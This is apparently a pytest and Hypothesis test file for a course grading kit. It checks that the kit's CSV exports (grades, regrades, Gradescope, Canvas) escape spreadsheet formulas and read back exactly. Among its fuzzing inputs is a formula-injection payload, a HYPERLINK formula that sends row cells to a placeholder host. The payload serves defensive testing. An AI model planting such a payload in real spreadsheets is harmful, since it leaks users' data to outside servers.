"""Every CSV the kit writes opens in a spreadsheet with no formula, and the kit reads its own back exactly.

The cells are hostile strings from Hypothesis (formulas such as `=HYPERLINK(...)`, `+`, `-`, `@`, a leading tab or
carriage return, quotes, commas, line breaks, apostrophes) in every column, written by the kit's real writers:
grades.csv and regrades.csv (results.merge_rows), the Gradescope import and a filled-in Canvas export (lms.py).
Each file is then read as a spreadsheet reads a CSV, cell by cell.

Example run: python -m pytest tests/course/grading/test_safe_csv.py -q
"""

import csv
import tempfile
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from specdec_course.grading import results
from specdec_course.grading.safe_csv import escape, inert, unescape
from specdec_course.platforms import lms

from conftest import runs_as_formula, spreadsheet_formulas

# The issue's example: a message that would send the next cells of the row to a stranger's server.
HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A2&B2, "grades")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", " =", "'", "''=")
PROPERTY = settings(max_examples=100, deadline=None)  # a shared 2-core machine: no per-example deadline

text = st.text(st.characters(exclude_characters="\x00", exclude_categories=("Cs",)), max_size=40)
hostile = st.one_of(text, st.tuples(st.sampled_from(TRIGGERS), text).map("".join), st.just(HYPERLINK),
                    st.from_regex(r"[+-]?\d{1,4}(\.\d{1,3})?([eE][+-]?\d)?", fullmatch=True))


def grade_row(student: str, values: list[str]) -> dict[str, str]:
    return {"student": student, **dict(zip(results.FIXED_COLUMNS[1:], values)), "test_exact": values[-1]}


rows_strategy = st.lists(st.tuples(hostile, st.lists(hostile, min_size=len(results.FIXED_COLUMNS),
                                                     max_size=len(results.FIXED_COLUMNS))),
                         min_size=1, max_size=4, unique_by=lambda r: r[0])


@PROPERTY
@given(rows_strategy, hostile)
def test_grades_and_regrades_open_with_no_formula_and_read_back_as_written(students, changed):
    """Every column of grades.csv, and of regrades.csv once each row is regraded, holds no formula; the kit's readers
    give back every value as it was."""
    first = [grade_row(student, values) for student, values in students]
    second = [{**row, "message": changed} for row in first]
    with tempfile.TemporaryDirectory() as folder:
        grades = Path(folder) / "grades.csv"
        results.merge_rows(grades, {}, first, ["test_exact"], [])
        assert results.read_rows(grades) == {row["student"]: row for row in first}, "grades.csv reads back exactly"
        results.merge_rows(grades, results.read_rows(grades), second, ["test_exact"], [])
        history = results.read_history(grades.parent / "regrades.csv")
        assert [{k: v for k, v in old.items() if k != "replaced_at"} for old in history] == first, \
            "regrades.csv reads back each replaced row exactly"
        for path in (grades, grades.parent / "regrades.csv"):
            assert not (found := spreadsheet_formulas(path)), f"{path.name}: a spreadsheet would run {found}"


@PROPERTY
@given(st.lists(st.tuples(hostile, hostile), min_size=1, max_size=5))
def test_lms_exports_open_with_no_formula(students):
    """The Gradescope import and a Canvas export filled in: student ids and statuses are the students' words, and a
    Canvas export's own cells may start with anything; none is a formula in the file the kit writes."""
    grades = [lms.ClassGrade(student, status, 1.5, None, 10.0, None, None) for student, status in students]
    template_rows = [["Student", "SIS User ID", "Speculative Decoding (1)"], ["    Points Possible", "", "10"],
                     *([name, student, ""] for student, name in students)]
    with tempfile.TemporaryDirectory() as folder:
        gradescope, template, canvas = (Path(folder) / name for name in ("gs.csv", "template.csv", "canvas.csv"))
        lms.write_gradescope(grades, gradescope)
        with template.open("w", newline="", encoding="utf-8") as f:
            csv.writer(f).writerows(template_rows)
        lms.fill_canvas(template, grades, canvas)
        for path in (gradescope, canvas):
            assert not (found := spreadsheet_formulas(path)), f"{path.name}: a spreadsheet would run {found}"
        with gradescope.open(newline="", encoding="utf-8") as f:
            sids = [row[0] for row in csv.reader(f)][1:]
        assert sids == [inert(student) for student, _ in students], "each SID is the student's id, made inert"


def test_the_issues_formula_is_text_and_numbers_stay_numbers():
    assert inert(HYPERLINK) == "'" + HYPERLINK, "a formula gets OWASP's leading apostrophe"
    assert [inert(n) for n in ("-1.5", "+3", "1e-5", "-.5", "0")] == ["-1.5", "+3", "1e-5", "-.5", "0"], \
        "numbers, signed or not, are left alone so that a spreadsheet still adds them up"
    assert [inert(c) for c in ("-inf", "@sum", "\tx", " =1+1", "-")] == ["'-inf", "'@sum", "'\tx", "' =1+1", "'-"], \
        "what is not a number and starts like a formula (or with a tab) gets the apostrophe"


@given(hostile)
def test_escape_round_trips_and_starts_no_formula(value):
    cell = escape(value)
    assert unescape(cell) == value and not runs_as_formula(cell), (value, cell)
